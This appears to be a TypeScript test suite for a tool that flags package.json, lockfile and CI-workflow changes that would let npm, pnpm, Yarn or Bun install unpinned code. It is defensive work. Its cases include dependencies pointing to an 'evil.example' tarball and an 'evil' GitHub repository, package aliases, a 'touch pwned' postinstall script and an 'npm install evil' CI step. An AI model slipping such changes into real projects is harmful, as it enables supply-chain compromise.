import { APP, PNPM_LOCK } from "./app.ts";
import type { Attack, AttackClass, Files } from "./attack.ts";
import { hashOf, lockWith, manifestWith } from "./npm-app.ts";

const LOCK = "package-lock.json";
const MANIFEST = "package.json";
const DEV = { devDependencies: { vite: "^5.0.0" } };

const REFUSED =
  "`npm ci` of npm 10, 11 and 12 refuses it, `npm install` fetched what nothing pins and ran its script.";

/** What package.json asks for while the lockfile stays. */
function asking(name: string, dependencies: Readonly<Record<string, string>>, real = REFUSED): Attack {
  return { name, change: { [MANIFEST]: manifestWith({ dependencies }) }, expect: "loud", at: MANIFEST, real };
}

/** An app whose `left` needs `inner`. */
const NESTED: Files = {
  [LOCK]: lockWith({
    "node_modules/left": { dependencies: { inner: "^1.0.0" } },
    "node_modules/inner": { version: "1.0.0", integrity: hashOf("C") },
  }),
};

/** An app whose `left` brings `inner` along. */
const BUNDLING: Files = {
  [LOCK]: lockWith({
    "node_modules/left": { dependencies: { inner: "^1.0.0" }, bundleDependencies: ["inner"] },
    "node_modules/left/node_modules/inner": { version: "1.0.0", inBundle: true },
  }),
};

/** An app whose packages pnpm installs. */
const OF_PNPM: Files = { [LOCK]: null, "pnpm-lock.yaml": PNPM_LOCK };

function overriding(overrides: unknown): Files {
  return { [MANIFEST]: manifestWith({ overrides }) };
}

/** An app with a workspace in `packages/web`. */
const WORKSPACES: Files = {
  [MANIFEST]: manifestWith({ workspaces: ["packages/*"] }),
  "packages/web/package.json": JSON.stringify({
    name: "web",
    version: "0.0.0",
    dependencies: { left: "^1.0.0" },
  }),
  [LOCK]: lockWith({
    "": { workspaces: ["packages/*"] },
    "packages/web": { name: "web", version: "0.0.0", dependencies: { left: "^1.0.0" } },
    "node_modules/web": { resolved: "packages/web", link: true },
  }),
};

export const NPM_MANIFEST: AttackClass = {
  name: "npm's manifest against the lockfile",
  decides:
    "npm takes what the lockfile holds where it satisfies what is asked for, by version, address or folder; `npm ci` compares only versions, so that it fetches another address of the same version.",
  attacks: [
    asking("hears a dependency that the lockfile lacks", { left: "^1.0.0", evil: "^1.0.0" }),
    asking("hears a range that the locked version is not in", { left: "^2.0.0" }),
    asking(
      "hears an address",
      { left: "https://evil.example/left-1.0.0.tgz" },
      "`npm ci` of npm 10 and 11 fetched the address and ran its script: the version was the same. npm 12 refuses addresses.",
    ),
    asking(
      "hears a repository",
      { left: "github:evil/left" },
      "npm 10 and 11 clone it, by `o/r` and `git+https:` too; npm 12 refuses.",
    ),
    asking("hears a folder", { left: "file:vendor/left" }),
    asking(
      "hears another package under the same name",
      { left: "npm:evil@^1.0.0" },
      "npm 10, 11 and 12 keep what is locked until somebody updates it.",
    ),
    asking(
      "hears a tag",
      { left: "next" },
      "npm 10, 11 and 12 keep what is locked where it has an address, and ask for the tag where it has none.",
    ),
    {
      name: "hears what only developers ask for",
      change: { [MANIFEST]: manifestWith({ devDependencies: { ...DEV.devDependencies, evil: "1" } }) },
      expect: "loud",
      at: MANIFEST,
      real: REFUSED,
    },
    {
      name: "hears what may be missing",
      change: { [MANIFEST]: manifestWith({ optionalDependencies: { evil: "1" } }) },
      expect: "loud",
      at: MANIFEST,
      real: REFUSED,
    },
    {
      name: "hears what is asked of others",
      change: { [MANIFEST]: manifestWith({ peerDependencies: { evil: "1" } }) },
      expect: "loud",
      at: MANIFEST,
      real: REFUSED,
    },
    {
      name: "hears a list in place of a table",
      change: { [MANIFEST]: manifestWith({ devDependencies: ["npm:evil@1.0.0"] }) },
      expect: "loud",
      at: MANIFEST,
      real: "To npm 10, 11 and 12 the first item is what the package `0` is asked for: the registry was asked for it.",
    },
    {
      name: "takes the last of two tables",
      change: {
        [MANIFEST]: manifestWith({})
          .replace('"private": true,', '"private": true,\n  "x": 1,')
          .replace(/\}\s*$/, ',\n  "dependencies": { "left": "^1.0.0", "evil": "1" }\n}\n'),
      },
      expect: "loud",
      at: MANIFEST,
      real: "JSON's last key counts to npm.",
    },
    {
      name: "hears an entry that goes while it is still asked for",
      base: NESTED,
      change: { [LOCK]: lockWith({ "node_modules/left": { dependencies: { inner: "^1.0.0" } } }) },
      expect: "loud",
      at: LOCK,
      real: "`npm ci` refuses it, `npm install` took the newest, 1.0.1.",
    },
    {
      name: "hears an entry that newly asks for another version",
      base: NESTED,
      change: {
        [LOCK]: lockWith({
          "node_modules/left": { dependencies: { inner: "^2.0.0" } },
          "node_modules/inner": { version: "1.0.0", integrity: hashOf("C") },
        }),
      },
      expect: "loud",
      at: LOCK,
      real: REFUSED,
    },
    {
      name: "hears an override",
      base: NESTED,
      change: overriding({ inner: "2.0.0" }),
      expect: "loud",
      at: MANIFEST,
      real: REFUSED,
    },
    {
      name: "hears an override below a package",
      base: NESTED,
      change: overriding({ left: { inner: "npm:evil@1.0.0" } }),
      expect: "loud",
      at: MANIFEST,
      real: "With another version `npm ci` refuses it and `npm install` fetches; of another name npm keeps what is locked until somebody updates it.",
    },
    {
      name: "hears what the project bundles, since that is fetched with all that is below",
      base: BUNDLING,
      change: { [MANIFEST]: manifestWith({ bundleDependencies: ["left"] }) },
      expect: "loud",
      at: MANIFEST,
      real: "npm 10, 11 and 12 fetch `inner` from the registry, pinned by nothing; by `bundledDependencies` and `true` too.",
    },
    {
      name: "hears what a workspace asks for",
      base: WORKSPACES,
      change: {
        "packages/web/package.json": JSON.stringify({
          name: "web",
          version: "0.0.0",
          dependencies: { left: "^1.0.0", evil: "1" },
        }),
      },
      expect: "loud",
      at: "packages/web/package.json",
      real: REFUSED,
    },
    {
      name: "hears a workspace that the lockfile lacks",
      base: WORKSPACES,
      change: {
        "packages/more/package.json":
          '{"name":"more","version":"0.0.0","scripts":{"postinstall":"touch pwned"}}',
      },
      expect: "loud",
      at: MANIFEST,
      real: "`npm ci` refuses it, `npm install` ran its script.",
    },
    {
      name: "hears a manifest that can't be read",
      change: { [MANIFEST]: `\ufeff${manifestWith({ dependencies: { left: "^1.0.0", evil: "1" } })}` },
      expect: "loud",
      at: MANIFEST,
      real: "npm 10, 11 and 12 read past a byte order mark.",
    },
    {
      name: "hears a package that a command installs by its name",
      change: {
        ".github/workflows/release.yml": APP[".github/workflows/release.yml"].replace(
          "- run: npm ci",
          "- run: npm ci && npm install evil",
        ),
      },
      expect: "loud",
      at: ".github/workflows/release.yml",
      real: "`npm install` of npm 10 and 11 fetches the newest, and runs its script.",
    },
    ...["in evil", "isntall evil", "it evil", "update", "audit fix"].map(
      (command): Attack => ({
        name: `hears npm ${command}`,
        change: {
          ".github/workflows/release.yml": APP[".github/workflows/release.yml"].replace(
            "- run: npm ci",
            `- run: npm ci && npm ${command}`,
          ),
        },
        expect: "loud",
        at: ".github/workflows/release.yml",
        real: "npm 11.19 installs by each of its names for it, and updates to what nothing pins.",
      }),
    ),
    {
      name: "says nothing of a script by which people update",
      change: { [MANIFEST]: manifestWith({ scripts: { build: "vite build", update: "npm update" } }) },
      expect: "silent",
      real: "It changes the lockfile, which is reviewed then.",
    },
    {
      name: "hears what is newly asked for where no lockfile is",
      base: { [LOCK]: null },
      change: { [MANIFEST]: manifestWith({ dependencies: { left: "^1.0.0", evil: "1" } }) },
      expect: "loud",
      at: MANIFEST,
      real: "`npm install` of npm 10, 11 and 12 takes the newest of everything.",
    },
    {
      name: "hears an address in place of a range where no lockfile is",
      base: { [LOCK]: null },
      change: { [MANIFEST]: manifestWith({ dependencies: { left: "https://evil.example/left.tgz" } }) },
      expect: "loud",
      at: MANIFEST,
      real: "npm 10 and 11 fetch the address.",
    },
    {
      name: "hears what is newly asked for while pnpm's lockfile stays",
      base: OF_PNPM,
      change: { [MANIFEST]: manifestWith({ dependencies: { left: "^1.0.0", evil: "^1.0.0" } }) },
      expect: "loud",
      at: MANIFEST,
      real: "The lockfile lists what each manifest asks for. Without --frozen-lockfile pnpm takes the newest. Not tried.",
    },
    {
      name: "hears what a workspace newly asks for while Yarn's lockfile stays",
      base: { ...WORKSPACES, [LOCK]: null, "yarn.lock": "# yarn lockfile v1\n" },
      change: {
        "packages/web/package.json": JSON.stringify({
          name: "web",
          version: "0.0.0",
          dependencies: { evil: "1" },
        }),
      },
      expect: "loud",
      at: "packages/web/package.json",
      real: "Yarn installs all workspaces at once. Not tried.",
    },
    {
      name: "hears an address in place of a range while such a lockfile stays",
      base: { [LOCK]: null, "bun.lockb": new Uint8Array([1, 2, 3]) },
      change: { [MANIFEST]: manifestWith({ dependencies: { left: "https://evil.example/left.tgz" } }) },
      expect: "loud",
      at: MANIFEST,
      real: "The lockfile was written for the range. Not tried.",
    },
    {
      name: "says nothing of what goes, moves or is wanted otherwise while pnpm's lockfile has it",
      base: OF_PNPM,
      change: {
        [MANIFEST]: manifestWith({
          dependencies: {},
          devDependencies: { ...DEV.devDependencies, left: ">=1.0.0 <3" },
        }),
      },
      expect: "silent",
      real: "pnpm keeps a locked version that fits.",
    },
    {
      name: "says nothing of another range where no lockfile is",
      base: { [LOCK]: null },
      change: { [MANIFEST]: manifestWith({ dependencies: { left: "^1.2.0" } }) },
      expect: "silent",
      real: "The newest was taken before, too.",
    },
    {
      name: "says nothing of a range that the locked version is in",
      change: { [MANIFEST]: manifestWith({ dependencies: { left: ">=1.0.0 <3" } }) },
      expect: "silent",
      real: "npm 10, 11 and 12 install what is locked.",
    },
    {
      name: "says nothing of a dependency that goes",
      change: { [MANIFEST]: manifestWith({ dependencies: {} }) },
      expect: "silent",
      real: "npm 10, 11 and 12 install less.",
    },
    {
      name: "says nothing of a dependency that becomes a developer's",
      change: {
        [MANIFEST]: manifestWith({
          dependencies: {},
          devDependencies: { ...DEV.devDependencies, left: "^1.0.0" },
        }),
      },
      expect: "silent",
      real: "npm 10, 11 and 12 install what is locked.",
    },
    {
      name: "says nothing of an override that the lockfile was written for",
      base: NESTED,
      change: overriding({ left: { inner: "1.0.0" }, other: "2.0.0", "inner@^3": "3.1.0" }),
      expect: "silent",
      real: "npm 10, 11 and 12 install what is locked.",
    },
    {
      name: "says nothing of an optional peer that nobody has",
      change: {
        [MANIFEST]: manifestWith({
          peerDependencies: { other: "1" },
          peerDependenciesMeta: { other: { optional: true } },
        }),
      },
      expect: "silent",
      real: "npm 10, 11 and 12 install nothing for it.",
    },
    {
      name: "says nothing of a workspace that the lockfile holds",
      base: WORKSPACES,
      change: {
        "packages/web/package.json": JSON.stringify({
          name: "web",
          version: "0.0.1",
          dependencies: { left: "1" },
        }),
      },
      expect: "silent",
      real: "npm 10, 11 and 12 install what is locked.",
    },
    {
      name: "says nothing of a folder that is no workspace",
      base: WORKSPACES,
      change: { "examples/one/package.json": '{"name":"one","dependencies":{"other":"1"}}' },
      expect: "silent",
      real: "npm doesn't look there.",
    },
  ],
};
